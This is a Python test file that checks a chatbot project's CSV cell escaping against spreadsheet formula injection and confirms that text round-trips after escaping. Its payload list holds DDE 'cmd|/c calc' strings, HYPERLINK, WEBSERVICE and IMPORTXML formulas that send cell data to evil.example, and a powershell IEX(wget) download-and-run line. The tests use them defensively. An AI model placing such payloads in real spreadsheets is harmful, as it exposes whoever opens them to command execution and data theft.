"""No cell of ours runs as a formula, and none loses a character by that."""

import csv
import io
import itertools
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chatbot.content.cells import cell_items, cell_text, list_cell, safe_cell

TRIGGERS = "=+-@＝＋－＠\t\r"
BEFORE = (
    "", " ", "   ", "\u00a0", "\u3000", "\u2009", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060\u202e", "\u2800",
    "\ufe0f", "\n", "\r\n", "\t", " \t \n", "\x0b\x0c", "\x00", "\x1f \x85", "\u2028", "\U000e0041", "\u3164",
    "'", "'' ",
)  # fmt: skip
BODIES = (
    "cmd|'/c calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"click")',
    'WEBSERVICE("https://evil.example/"&A1)',
    "DDE(\"cmd\";\"/c calc\";\"x\")",
    'IMPORTXML(CONCAT("https://evil.example/?v=",A1:E1),"//a")',
    "SUM(1+1)*cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "2+5+cmd|'/c calc'!A0",
    "1;=1+1",
)  # fmt: skip
PAYLOADS = [
    before + trigger + body
    for at, (before, trigger, body) in enumerate(itertools.product(BEFORE, TRIGGERS, BODIES))
    if at % 3 == 0  # 8 bodies and 3 have no divisor in common, so each kind meets each other
]


NOTHING_SEEN = re.compile(
    "[\\s\x00-\x1f\x7f\u00ad\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2800\u3164\ufe0f\ufeff\U000e0041]*"
)


def runs(cell: str) -> bool:
    """Whether what one sees first of `cell` opens a formula, or a tab or carriage return stands before it."""
    before = NOTHING_SEEN.match(cell)
    assert before
    return not {"\t", "\r"}.isdisjoint(before[0]) or cell[before.end() :].startswith(tuple(TRIGGERS))


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_no_payload_begins_as_a_formula_in_any_cell() -> None:
    """Red without: the full-width forms, the blanks beyond ASCII, what takes no room, tab and carriage return."""
    assert len(PAYLOADS) >= 300
    assert sum(map(runs, PAYLOADS)) >= 300
    file = io.StringIO(newline="")
    rows = csv.writer(file, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    rows.writerows([safe_cell(payload)] * 3 for payload in PAYLOADS)
    cells = list(itertools.chain.from_iterable(parsed(file.getvalue())))
    assert len(cells) == 3 * len(PAYLOADS)
    assert [cell for cell in cells if runs(cell)] == []
    assert [cell_text(cell) for cell in cells[::3]] == PAYLOADS


@pytest.mark.parametrize("text", ["", "'", "plain", "it's = so", "1 - 2", "'tis", "' '=1", "* item", "5 \u2212 3"])
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert cell_text(text) == text


ANYTHING = st.text(st.sampled_from("'= +@-\t\n\u00a0\u200b＝ab|,;\\") | st.characters(), max_size=12)


@settings(max_examples=1000)
@given(ANYTHING)
@example("'=1")
@example("''=1")
def test_a_cell_gives_back_its_text(text: str) -> None:
    """Red without: the second apostrophe before one that the text has itself."""
    assert not runs(safe_cell(text))
    assert cell_text(safe_cell(text)) == text


ITEM = ANYTHING.map(lambda text: " ".join(text.split())).filter(bool)


@settings(max_examples=500)
@given(st.sampled_from(["alternates", "tags"]), st.lists(ITEM, min_size=1))
@example("alternates", ["a|b", "a\\|b", "c\\"])
@example("tags", ["a\\", "b, c"])
def test_a_cell_gives_back_its_items(field: str, items: list[str]) -> None:
    """Red without: the backslash before what parts items, or the line break alone between them."""
    assert cell_items(field, list_cell(field, items)) == items


def test_items_are_parted_as_the_format_says() -> None:
    assert cell_items("alternates", "a?|b, c?\nd?") == ["a?", "b, c?", "d?"]
    assert cell_items("tags", "a,b;c|d\ne\\,f") == ["a", "b", "c", "d", "e,f"]
